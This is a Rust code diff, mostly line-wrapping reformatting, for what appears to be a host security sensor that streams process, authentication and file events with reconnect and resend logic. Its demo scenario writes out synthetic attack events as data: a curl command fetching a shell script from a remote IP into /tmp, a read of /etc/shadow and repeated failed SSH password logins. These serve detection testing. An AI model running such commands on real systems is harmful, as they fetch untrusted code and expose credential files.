@@ -190,9 +190,14 @@ impl Outbox {
 
 /// Runs the sensor until `events` is closed and every frame is acknowledged. Reconnects with
 /// backoff and resends unacknowledged frames after each reconnect.
-pub async fn run(cfg: SensorConfig, mut events: mpsc::Receiver<Event>, stats: Arc<SensorStats>) -> Result<(), SensorError> {
+pub async fn run(
+    cfg: SensorConfig,
+    mut events: mpsc::Receiver<Event>,
+    stats: Arc<SensorStats>,
+) -> Result<(), SensorError> {
     let ep = endpoint(&cfg)?;
-    let mut out = Outbox { unacked: BTreeMap::new(), next_seq: 0, pending: HashMap::new(), pending_rows: HashMap::new() };
+    let mut out =
+        Outbox { unacked: BTreeMap::new(), next_seq: 0, pending: HashMap::new(), pending_rows: HashMap::new() };
     let mut closed = false;
     let mut backoff = Duration::from_millis(100);
     loop {
@@ -332,9 +337,18 @@ pub fn demo_scenario(host: &str, now_us: i64) -> Vec<Event> {
     };
     let mut events = vec![
         next("process_events", proc_("/usr/bin/ls", "ls -la", "dev", "/usr/bin/bash")),
-        next("auth_events", json!({"user": "dev", "src_ip": "192.0.2.10", "service": "ssh", "method": "publickey", "outcome": "success"})),
-        next("file_events", json!({"pid": 612, "exe": "/usr/sbin/sshd", "user": "root", "uid": 0, "action": "read", "path": "/etc/shadow"})),
-        next("process_events", proc_("/usr/bin/curl", "curl -fsSL http://198.51.100.7/x.sh -o /tmp/x.sh", "dev", "/usr/bin/bash")),
+        next(
+            "auth_events",
+            json!({"user": "dev", "src_ip": "192.0.2.10", "service": "ssh", "method": "publickey", "outcome": "success"}),
+        ),
+        next(
+            "file_events",
+            json!({"pid": 612, "exe": "/usr/sbin/sshd", "user": "root", "uid": 0, "action": "read", "path": "/etc/shadow"}),
+        ),
+        next(
+            "process_events",
+            proc_("/usr/bin/curl", "curl -fsSL http://198.51.100.7/x.sh -o /tmp/x.sh", "dev", "/usr/bin/bash"),
+        ),
     ];
     for _ in 0..6 {
         events.push(next("auth_events", json!({"user": "admin", "src_ip": "203.0.113.9", "service": "ssh", "method": "password", "outcome": "failure"})));
@@ -408,15 +422,11 @@ fn proc_info(pid: u32) -> Option<(String, String, String, i64, i64)> {
 
 fn describe_process(pid: u32, users: &HashMap<i64, String>, host: &str) -> Option<Value> {
     let (exe, cmdline, cwd, ppid, uid) = proc_info(pid)?;
-    let (parent_exe, parent_cmdline) = u32::try_from(ppid)
-        .ok()
-        .and_then(proc_info)
-        .map(|(e, c, ..)| (e, c))
-        .unwrap_or_default();
+    let (parent_exe, parent_cmdline) =
+        u32::try_from(ppid).ok().and_then(proc_info).map(|(e, c, ..)| (e, c)).unwrap_or_default();
     Some(json!({
         "ts": chrono::Utc::now().timestamp_micros(), "host": host, "event_type": "start",
         "pid": pid, "ppid": ppid, "uid": uid, "user": users.get(&uid),
         "exe": exe, "cmdline": cmdline, "cwd": cwd, "parent_exe": parent_exe, "parent_cmdline": parent_cmdline,
     }))
 }
-
